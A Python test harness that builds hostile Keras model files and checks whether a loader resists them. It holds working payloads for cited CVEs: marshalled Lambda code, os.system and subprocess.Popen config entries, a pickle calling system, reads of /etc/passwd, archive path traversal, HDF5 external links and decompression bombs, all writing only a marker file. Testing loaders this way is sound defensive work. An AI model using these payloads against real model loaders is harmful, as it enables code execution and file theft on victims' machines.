"""Makes model files that attack a loader, each from a good one; `python hostile.py FOLDER ELSEWHERE` loads a folder.

Loading happens in a process of its own that is watched: it reports, as JSON, how each file ended, what it took, and
every forbidden thing that was tried (code run, modules imported, files opened, programs started).
Next: watching.py; test_hostile_files.py.
"""

from __future__ import annotations

import base64
import contextlib
import io
import json
import marshal
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np
from watching import Watch

GOLDEN = Path(__file__).parent / "golden"
KERAS, H5 = GOLDEN / "stacked-relu.keras", GOLDEN / "stacked-relu.h5"

Attack = Callable[[Path, Path], None]  # (folder, marker): writes folder/NAME; code that runs would write the marker
ATTACKS: dict[str, Attack] = {}


def attack(name: str) -> Callable[[Attack], Attack]:
    def add(function: Attack) -> Attack:
        ATTACKS[name] = function
        return function

    return add


def archive(path: Path, *, config: Any = None, weights: Any = None, extra: Any = None, deflate: bool = False) -> None:
    """A copy of the good .keras file: `config` and `weights` change the parsed JSON and the open HDF5 file."""
    with zipfile.ZipFile(KERAS) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED if deflate else 0) as new:
        for name in old.namelist():
            content = old.read(name)
            if name == "config.json" and config:
                changed = config(json.loads(content))
                content = changed if isinstance(changed, bytes) else json.dumps(changed).encode()
            elif name == "model.weights.h5" and weights:
                buffer = io.BytesIO(content)
                with h5py.File(buffer, "r+") as file:
                    weights(file)
                content = buffer.getvalue()
            new.writestr(name, content)
        for name, content in (extra or {}).items():
            new.writestr(name, content)


def legacy(path: Path, change: Callable[[Any], None]) -> None:
    """A copy of the good .h5 file, changed."""
    path.write_bytes(H5.read_bytes())
    with h5py.File(path, "r+") as file:
        change(file)


def in_layer(index: int, **changes: Any) -> Callable[[Any], Any]:
    def change(config: Any) -> Any:
        config["config"]["layers"][index]["config"].update(changes)
        return config

    return change


def as_layer(index: int, entry: dict[str, Any]) -> Callable[[Any], Any]:
    def change(config: Any) -> Any:
        config["config"]["layers"][index] = entry
        return config

    return change


def code_that_writes(marker: Path) -> str:
    """A marshalled function, as Keras stores a Lambda."""
    code = compile(f"lambda x: open({str(marker)!r}, 'w').write('ran')", "lambda", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode()


def shell_that_writes(marker: Path) -> str:
    return f"touch {marker}"


# ---- code in the config: CVE-2024-3660, CVE-2025-1550, CVE-2025-8747, CVE-2025-9905, CVE-2025-9906 -----------------


@attack("lambda.keras")
def _(folder: Path, marker: Path) -> None:
    value = {"class_name": "__lambda__", "config": {"value": [code_that_writes(marker), None, None]}}
    entry = {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "evil", "function": value}}
    archive(folder / "lambda.keras", config=as_layer(4, entry))


@attack("lambda.h5")
def _(folder: Path, marker: Path) -> None:
    def change(file: Any) -> None:
        config = json.loads(file.attrs["model_config"])
        config["config"]["layers"][4] = {
            "class_name": "Lambda",
            "config": {"name": "evil", "function_type": "lambda", "function": [code_that_writes(marker), None, None]},
        }
        file.attrs["model_config"] = json.dumps(config)

    legacy(folder / "lambda.h5", change)


@attack("lambda-inside-time-distributed.keras")
def _(folder: Path, marker: Path) -> None:
    value = {"class_name": "__lambda__", "config": {"value": [code_that_writes(marker), None, None]}}
    inner = {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "evil", "function": value}}
    entry = {"module": "keras.layers", "class_name": "TimeDistributed", "config": {"name": "td", "layer": inner}}
    archive(folder / "lambda-inside-time-distributed.keras", config=as_layer(4, entry))


@attack("activation-is-a-module-function.keras")
def _(folder: Path, marker: Path) -> None:
    call = {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}
    archive(folder / "activation-is-a-module-function.keras", config=in_layer(5, activation=call))


@attack("activation-is-a-lambda.keras")
def _(folder: Path, marker: Path) -> None:
    call = {"class_name": "__lambda__", "config": {"value": [code_that_writes(marker), None, None]}}
    archive(folder / "activation-is-a-lambda.keras", config=in_layer(1, activation=call))


@attack("layer-from-another-module.keras")
def _(folder: Path, marker: Path) -> None:
    entry = {
        "module": "subprocess",
        "class_name": "Popen",
        "registered_name": None,
        "config": {"args": ["sh", "-c", shell_that_writes(marker)], "name": "evil"},
    }
    archive(folder / "layer-from-another-module.keras", config=as_layer(4, entry))


@attack("registered-name.keras")
def _(folder: Path, marker: Path) -> None:
    entry = {"module": "os", "class_name": "system", "registered_name": "os>system", "config": {"name": "evil"}}
    archive(folder / "registered-name.keras", config=as_layer(4, entry))


@attack("initializer-from-a-module.keras")
def _(folder: Path, marker: Path) -> None:
    call = {"module": "os", "class_name": "system", "config": {"command": shell_that_writes(marker)}}
    archive(folder / "initializer-from-a-module.keras", config=in_layer(1, kernel_initializer=call))


@attack("dtype-from-a-module.keras")
def _(folder: Path, marker: Path) -> None:
    call = {"module": "os", "class_name": "system", "config": {"name": shell_that_writes(marker)}}
    archive(folder / "dtype-from-a-module.keras", config=in_layer(1, dtype=call))


@attack("model-from-a-module.keras")
def _(folder: Path, marker: Path) -> None:
    archive(
        folder / "model-from-a-module.keras",
        config=lambda config: {**config, "module": "antigravity", "class_name": "Model", "registered_name": "x>y"},
    )


@attack("downloads-a-file.keras")
def _(folder: Path, marker: Path) -> None:
    call = {
        "module": "keras.utils",
        "class_name": "function",
        "config": "get_file",
        "registered_name": "get_file",
    }
    archive(folder / "downloads-a-file.keras", config=in_layer(1, activation=call))


@attack("reads-a-vocabulary.keras")
def _(folder: Path, marker: Path) -> None:
    entry = {
        "module": "keras.layers",
        "class_name": "StringLookup",
        "config": {"name": "evil", "vocabulary": "/etc/passwd"},
    }
    archive(folder / "reads-a-vocabulary.keras", config=as_layer(4, entry))


@attack("torch-module.keras")
def _(folder: Path, marker: Path) -> None:
    entry = {
        "module": "keras.layers",
        "class_name": "TorchModuleWrapper",
        "config": {"name": "evil", "module": base64.b64encode(pickle_that_writes(marker)).decode()},
    }
    archive(folder / "torch-module.keras", config=as_layer(4, entry))


@attack("pickled-weights.keras")
def _(folder: Path, marker: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as npz:
        header = b"{'descr': '|O', 'fortran_order': False, 'shape': (), }"
        header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
        array = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickle_that_writes(marker)
        npz.writestr("layers/lstm.npy", array)
    path = folder / "pickled-weights.keras"
    with zipfile.ZipFile(KERAS) as old, zipfile.ZipFile(path, "w") as new:
        for name in ("config.json", "metadata.json"):
            new.writestr(name, old.read(name))
        new.writestr("model.weights.npz", buffer.getvalue())


def pickle_that_writes(marker: Path) -> bytes:
    return b"cos\nsystem\n(S'" + shell_that_writes(marker).encode() + b"'\ntR."


# ---- paths: GHSA-hqp4-2352-xf5r ------------------------------------------------------------------------------------


@attack("traversal.keras")
def _(folder: Path, marker: Path) -> None:
    archive(
        folder / "traversal.keras",
        extra={
            f"../{marker.name}": b"x",
            f"../../../../../../../..{marker}": b"x",
            str(marker): b"x",
            f"C:\\{marker.name}": b"x",
        },
    )


@attack("symbolic-link.keras")
def _(folder: Path, marker: Path) -> None:
    path = folder / "symbolic-link.keras"
    with zipfile.ZipFile(KERAS) as old, zipfile.ZipFile(path, "w") as new:
        for name in old.namelist():
            if name == "model.weights.h5":
                info = zipfile.ZipInfo(name)
                info.external_attr = 0o120777 << 16
                new.writestr(info, str(decoy(marker)))
            else:
                new.writestr(name, old.read(name))


def first_kernel(file: Any) -> str:
    """The path of the first kernel in either kind of file."""
    return "layers/lstm/cell/vars/0" if "layers" in file else "model_weights/a/tutorial/a/lstm_cell/kernel"


def decoy(marker: Path) -> Path:
    """A file that no attack may make anybody open."""
    path = marker.with_name("decoy.h5")
    if not path.exists():
        with h5py.File(path, "w") as file:
            file["x"] = np.ones((3, 40), "float32")
            file.create_group("model_weights")
    return path


Make = Callable[[Any, str, Path], None]  # (file, path of the first kernel in it, decoy)


def replaced(make: Make, decoy: Path) -> Callable[[Any], None]:
    """Takes the first kernel away and lets `make` put something else in its place."""

    def change(file: Any) -> None:
        name = first_kernel(file)
        if name not in file:
            found: list[str] = []
            file.visititems(lambda key, item: found.append(key) if isinstance(item, h5py.Dataset) else None)
            name = next(key for key in found if file[key].shape == (3, 40))
        del file[name]
        make(file, name, decoy)

    return change


def twice(name: str, make: Make) -> None:
    """The same attack in a .keras and in a .h5 file."""

    @attack(f"{name}.keras")
    def _(folder: Path, marker: Path) -> None:
        archive(folder / f"{name}.keras", weights=replaced(make, decoy(marker)))

    @attack(f"{name}.h5")
    def _(folder: Path, marker: Path) -> None:
        legacy(folder / f"{name}.h5", replaced(make, decoy(marker)))


def _external_link(file: Any, name: str, decoy: Path) -> None:
    file[name] = h5py.ExternalLink(str(decoy), "/x")


def _soft_link(file: Any, name: str, decoy: Path) -> None:
    file["elsewhere"] = np.ones((3, 40), "float32")
    file[name] = h5py.SoftLink("/elsewhere")


def _external_link_nearby(file: Any, name: str, decoy: Path) -> None:
    file[name] = h5py.ExternalLink(decoy.name, "/x")


def _external_group(file: Any, name: str, decoy: Path) -> None:
    """All weights lie elsewhere."""
    top = name.split("/", 1)[0]
    del file[top]
    file[top] = h5py.ExternalLink(str(decoy), "/model_weights")


def _soft_group(file: Any, name: str, decoy: Path) -> None:
    top = name.split("/", 1)[0]
    file.move(top, "elsewhere")
    file[top] = h5py.SoftLink("/elsewhere")


def _link_to_itself(file: Any, name: str, decoy: Path) -> None:
    file[name] = h5py.SoftLink(name)


def _external_storage(file: Any, name: str, decoy: Path) -> None:
    file.create_dataset(name, (3, 40), "float32", external=[(str(decoy), 0, h5py.h5f.UNLIMITED)])


def _virtual(file: Any, name: str, decoy: Path) -> None:
    layout = h5py.VirtualLayout((3, 40), "float32")
    layout[:] = h5py.VirtualSource(str(decoy), "x", (3, 40))
    file.create_virtual_dataset(name, layout)


# ---- bombs: CVE-2026-0897 ------------------------------------------------------------------------------------------


def _huge_shape(file: Any, name: str, decoy: Path) -> None:
    file.create_dataset(name, (1 << 20, 1 << 20), "float32", chunks=(1, 1024))


def _compressed_zeros(file: Any, name: str, decoy: Path) -> None:
    file.create_dataset(name, (1 << 27,), "float32", chunks=(1 << 20,), compression="gzip", fillvalue=0)


def _large_chunk(file: Any, name: str, decoy: Path) -> None:
    """Few values, in one chunk that is large when it is inflated."""
    data = file.create_dataset(
        name, (3, 40), "float32", chunks=(1 << 10, 1 << 17), maxshape=(None, None), compression="gzip"
    )
    data.id.write_direct_chunk((0, 0), zlib.compress(bytes(1 << 29)))


def _chunk_that_grows(file: Any, name: str, decoy: Path) -> None:
    """A chunk of few values, whose deflated bytes go on behind them."""
    data = file.create_dataset(name, (3, 40), "float32", chunks=(3, 40), compression="gzip")
    data.id.write_direct_chunk((0, 0), zlib.compress(bytes(1 << 28)))


def _other_filter(file: Any, name: str, decoy: Path) -> None:
    """A filter that takes as much as the file says."""
    file.create_dataset(name, data=np.ones((3, 40), "float32"), chunks=(3, 40), compression="lzf")


def _filter_to_load(file: Any, name: str, decoy: Path) -> None:
    """A filter for which libhdf5 would look for a library."""
    creation = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
    creation.set_chunk((3, 40))
    creation.set_filter(32015, h5py.h5z.FLAG_OPTIONAL, ())
    space, real = h5py.h5s.create_simple((3, 40)), h5py.h5t.NATIVE_FLOAT
    data = h5py.Dataset(h5py.h5d.create(file.id, name.encode(), real, space, dcpl=creation))
    data.id.write_direct_chunk((0, 0), bytes(480))


def _strings(file: Any, name: str, decoy: Path) -> None:
    file.create_dataset(name, (3, 40), h5py.string_dtype(), fillvalue="x")


def _compound(file: Any, name: str, decoy: Path) -> None:
    file.create_dataset(name, (3, 40), np.dtype([("a", "f4"), ("b", "S100000")]))


def _references(file: Any, name: str, decoy: Path) -> None:
    file.create_dataset(name, (3, 40), h5py.ref_dtype)


def _scalar(file: Any, name: str, decoy: Path) -> None:
    file[name] = 3.0


def _a_group(file: Any, name: str, decoy: Path) -> None:
    file.create_group(name)


def _empty(file: Any, name: str, decoy: Path) -> None:
    file[name] = h5py.Empty("f")


def _cycle(file: Any, name: str, decoy: Path) -> None:
    group = file.create_group(name)
    group["again"] = group


def _deep(file: Any, name: str, decoy: Path) -> None:
    group = file.create_group(name)
    for _level in range(300):
        group = group.create_group("g")


for _name, _make in (
    ("external-link", _external_link),
    ("soft-link", _soft_link),
    ("external-storage", _external_storage),
    ("external-link-nearby", _external_link_nearby),
    ("external-group", _external_group),
    ("soft-group", _soft_group),
    ("link-to-itself", _link_to_itself),
    ("virtual-data-set", _virtual),
    ("large-chunk", _large_chunk),
    ("chunk-that-grows", _chunk_that_grows),
    ("other-filter", _other_filter),
    ("filter-to-load", _filter_to_load),
    ("huge-shape", _huge_shape),
    ("compressed-zeros", _compressed_zeros),
    ("strings-for-weights", _strings),
    ("compound-weights", _compound),
    ("references-for-weights", _references),
    ("scalar-weight", _scalar),
    ("group-for-a-weight", _a_group),
    ("empty-weight", _empty),
    ("cycle-of-groups", _cycle),
    ("deep-groups", _deep),
):
    twice(_name, _make)


@attack("zip-bomb.keras")
def _(folder: Path, marker: Path) -> None:
    archive(folder / "zip-bomb.keras", config=lambda config: b" " * (300 << 20) + b"{}", deflate=True)


@attack("weights-bomb.keras")
def _(folder: Path, marker: Path) -> None:
    path = folder / "weights-bomb.keras"
    with zipfile.ZipFile(KERAS) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name in ("config.json", "metadata.json"):
            new.writestr(name, old.read(name))
        with new.open("model.weights.h5", "w") as member:
            member.write(old.read("model.weights.h5"))
            for _block in range(300):
                member.write(bytes(1 << 20))


@attack("npz-shape-bomb.keras")
def _(folder: Path, marker: Path) -> None:
    buffer = io.BytesIO()
    header = b"\x93NUMPY\x01\x00v\x00{'descr': '<f4', 'fortran_order': False, 'shape': (1099511627776,), }"
    with zipfile.ZipFile(buffer, "w") as npz:
        npz.writestr("layers/lstm/cell/vars/0.npy", header.ljust(127) + b"\n")
    path = folder / "npz-shape-bomb.keras"
    with zipfile.ZipFile(KERAS) as old, zipfile.ZipFile(path, "w") as new:
        for name in ("config.json", "metadata.json"):
            new.writestr(name, old.read(name))
        new.writestr("model.weights.npz", buffer.getvalue())


@attack("deep-json.keras")
def _(folder: Path, marker: Path) -> None:
    archive(folder / "deep-json.keras", config=lambda config: b'{"config":' * 100_000 + b"1" + b"}" * 100_000)


@attack("deep-models.keras")
def _(folder: Path, marker: Path) -> None:
    def nest(config: Any) -> Any:
        for _level in range(150):
            config = {"module": "keras", "class_name": "Sequential", "config": {"name": "n", "layers": [config]}}
        return config

    archive(folder / "deep-models.keras", config=nest)


@attack("deep-wrappers.keras")
def _(folder: Path, marker: Path) -> None:
    def nest(config: Any) -> Any:
        entry = config["config"]["layers"][4]
        for level in range(150):
            entry = {
                "module": "keras.layers",
                "class_name": "TimeDistributed",
                "config": {"name": f"t{level}", "layer": entry},
            }
        config["config"]["layers"][4] = entry
        return config

    archive(folder / "deep-wrappers.keras", config=nest)


@attack("graph-in-a-loop.keras")
def _(folder: Path, marker: Path) -> None:
    def node(name: str) -> Any:
        tensor = {"class_name": "__keras_tensor__", "config": {"shape": [None, 3], "keras_history": [name, 0, 0]}}
        return [{"args": [tensor], "kwargs": {}}]

    def entry(name: str, source: str) -> Any:
        config = {"name": name, "units": 3}
        return {"class_name": "Dense", "config": config, "name": name, "inbound_nodes": node(source)}

    def loop(config: Any) -> Any:
        layers = [entry("a", "b"), entry("b", "a")]
        return {
            "module": "keras",
            "class_name": "Functional",
            "config": {"name": "m", "layers": layers, "input_layers": [["a", 0, 0]], "output_layers": [["b", 0, 0]]},
        }

    archive(folder / "graph-in-a-loop.keras", config=loop)


@attack("many-layers.keras")
def _(folder: Path, marker: Path) -> None:
    def repeat(config: Any) -> Any:
        entry = config["config"]["layers"][4]
        config["config"]["layers"][4:5] = [
            {**entry, "config": {**entry["config"], "name": f"d{number}"}} for number in range(3000)
        ]
        return config

    archive(folder / "many-layers.keras", config=repeat)


for _key, _value in (
    ("units", 10**9),
    ("units", 10**18),
    ("units", -5),
    ("units", 1e308),
    ("units", [10]),
    ("units", True),
    ("name", ["a"]),
    ("name", "a" * 10**6),
    ("name", "../../a"),
    ("name", None),
    ("dtype", "object"),
    ("dtype", {"class_name": "DTypePolicy", "config": {"name": ["float32"]}}),
    ("activation", {"class_name": "relu"}),
    ("activation", ["relu"]),
    ("activation", 7),
    ("return_sequences", "no"),
    ("unknown", {"a": 1}),
    ("kernel_initializer", {"class_name": "Constant", "config": {"value": [1] * 10}}),
):
    _label = f"lstm-{_key}-{str(_value)[:12]}".translate(str.maketrans(" /{}[]':.", "_________"))

    def _make_attack(label: str, key: str, value: Any) -> None:
        @attack(f"{label}.keras")
        def _(folder: Path, marker: Path) -> None:
            archive(folder / f"{label}.keras", config=in_layer(1, **{key: value}))

    _make_attack(_label, _key, _value)

for _label, _shape in (
    ("negative", [None, -1, 3]),
    ("text", [None, "a", 3]),
    ("huge", [None, 10**15, 3]),
    ("nested", [[None], [12], [3]]),
    ("number", 3),
    ("empty", []),
):

    def _make_shape(label: str, shape: Any) -> None:
        @attack(f"input-{label}.keras")
        def _(folder: Path, marker: Path) -> None:
            archive(folder / f"input-{label}.keras", config=in_layer(0, batch_shape=shape))

    _make_shape(_label, _shape)


@attack("repeat-for-ever.keras")
def _(folder: Path, marker: Path) -> None:
    entry = {"module": "keras.layers", "class_name": "RepeatVector", "config": {"name": "d", "n": 10**15}}
    archive(folder / "repeat-for-ever.keras", config=as_layer(4, entry))


@attack("spectrum-of-everything.keras")
def _(folder: Path, marker: Path) -> None:
    config = {"name": "d", "fft_length": 10**12, "num_mel_bins": 10**6}
    entry = {"module": "keras.layers", "class_name": "MelSpectrogram", "config": config}
    archive(folder / "spectrum-of-everything.keras", config=as_layer(4, entry))


@attack("a-size-of-many-letters.keras")
def _(folder: Path, marker: Path) -> None:
    entry = {"module": "keras.layers", "class_name": "Hashing", "config": {"name": "h", "num_bins": "9" * 1_000_000}}
    archive(folder / "a-size-of-many-letters.keras", config=as_layer(4, entry))


@attack("embedding-of-everything.keras")
def _(folder: Path, marker: Path) -> None:
    entry = {
        "module": "keras.layers",
        "class_name": "Embedding",
        "config": {"name": "d", "input_dim": 10**12, "output_dim": 10**3},
    }
    archive(folder / "embedding-of-everything.keras", config=as_layer(4, entry))


@attack("layer-names-lead-elsewhere.h5")
def _(folder: Path, marker: Path) -> None:
    def change(file: Any) -> None:
        file["model_weights"].attrs["layer_names"] = np.array([b"../a", b"/model_weights/a", b"a/../b", b"a"], "S20")

    legacy(folder / "layer-names-lead-elsewhere.h5", change)


@attack("layer-names-through-a-link.h5")
def _(folder: Path, marker: Path) -> None:
    def change(file: Any) -> None:
        group = file["model_weights"]
        group["x"] = h5py.ExternalLink(str(decoy(marker)), "/")
        group.attrs["layer_names"] = np.array([b"x/model_weights", *group.attrs["layer_names"]], "S20")

    legacy(folder / "layer-names-through-a-link.h5", change)


@attack("names-of-backslashes.keras")
def _(folder: Path, marker: Path) -> None:
    def change(file: Any) -> None:
        file.create_group("x")["\\" * 60_000] = np.zeros(1, "float32")

    archive(folder / "names-of-backslashes.keras", weights=change)


@attack("other-compression.keras")
def _(folder: Path, marker: Path) -> None:
    """Python inflates such a member to its end, however many bytes are asked for."""
    with zipfile.ZipFile(KERAS) as old, zipfile.ZipFile(folder / "other-compression.keras", "w") as new:
        for name in old.namelist():
            new.writestr(name, old.read(name), zipfile.ZIP_BZIP2)


@attack("models-in-models-twice.keras")
def _(folder: Path, marker: Path) -> None:
    """A model that holds another twice, which holds another twice, …"""

    def chain(name: str, number: int, layers: list[Any]) -> dict[str, Any]:
        config = {"name": name, "layers": layers}
        return {"module": "keras", "class_name": "Sequential", "config": config, "shared_object_id": number}

    def nest(config: Any) -> Any:
        first = config["config"]["layers"][0]
        model = chain("m", 0, [first, config["config"]["layers"][4]])
        for number in range(1, 30):
            model = chain(f"m{number}", number, [first, model, chain("again", number - 1, [])])
        return model

    archive(folder / "models-in-models-twice.keras", config=nest)


@attack("weight-names-lead-elsewhere.h5")
def _(folder: Path, marker: Path) -> None:
    def change(file: Any) -> None:
        file["model_weights/a"].attrs["weight_names"] = np.array([b"/", b"..", b"."], "S2")

    legacy(folder / "weight-names-lead-elsewhere.h5", change)


@attack("names-are-numbers.h5")
def _(folder: Path, marker: Path) -> None:
    def change(file: Any) -> None:
        file["model_weights"].attrs["layer_names"] = np.arange(5)

    legacy(folder / "names-are-numbers.h5", change)


@attack("config-is-a-number.h5")
def _(folder: Path, marker: Path) -> None:
    def change(file: Any) -> None:
        file.attrs["model_config"] = 7

    legacy(folder / "config-is-a-number.h5", change)


@attack("config-is-not-utf8.h5")
def _(folder: Path, marker: Path) -> None:
    def change(file: Any) -> None:
        file.attrs["model_config"] = np.void(b'{"a": "\xff\xfe"}')

    legacy(folder / "config-is-not-utf8.h5", change)


@attack("duplicate-members.keras")
def _(folder: Path, marker: Path) -> None:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        archive(folder / "duplicate-members.keras", extra={"config.json": b"[]"})


@attack("a-size-that-lies.keras")
def _(folder: Path, marker: Path) -> None:
    path = folder / "a-size-that-lies.keras"
    archive(path)
    content = bytearray(path.read_bytes())
    place = content.rfind(b"PK\x01\x02")  # the last entry of the central directory: uncompressed size
    content[place + 24 : place + 28] = struct.pack("<I", 0xFFFFFF00)
    path.write_bytes(content)


# ---- the process that loads them -----------------------------------------------------------------------------------


def report(paths: list[Path], elsewhere: Path) -> dict[str, dict[str, Any]]:
    """How loading each file ended; nothing may touch the folder `elsewhere`, which becomes the current one."""
    import os
    import warnings

    import lstmfast

    warnings.simplefilter("ignore")
    for good in (KERAS, H5):  # imports what loading needs
        lstmfast.load_model(good).predict(np.zeros((1, 12, 3)))
    with contextlib.suppress(OSError):
        lstmfast.load_model(KERAS.with_name("missing"))
    os.chdir(elsewhere)
    watch = Watch([elsewhere, *{path.parent for path in paths}])
    results = {}
    for path in paths:
        with watch.over(path):
            try:
                model = lstmfast.load_model(path)
                ended, says = "Model", type(model).__name__
            except BaseException as error:
                ended, says = type(error).__name__, str(error)
        results[path.name] = {
            "ended": ended,
            "says": says[:2000],
            "tried": watch.tried,
            "seconds": watch.seconds,
            "bytes": watch.held,
        }
    return results


if __name__ == "__main__":
    print(json.dumps(report(sorted(Path(sys.argv[1]).iterdir()), Path(sys.argv[2]))))
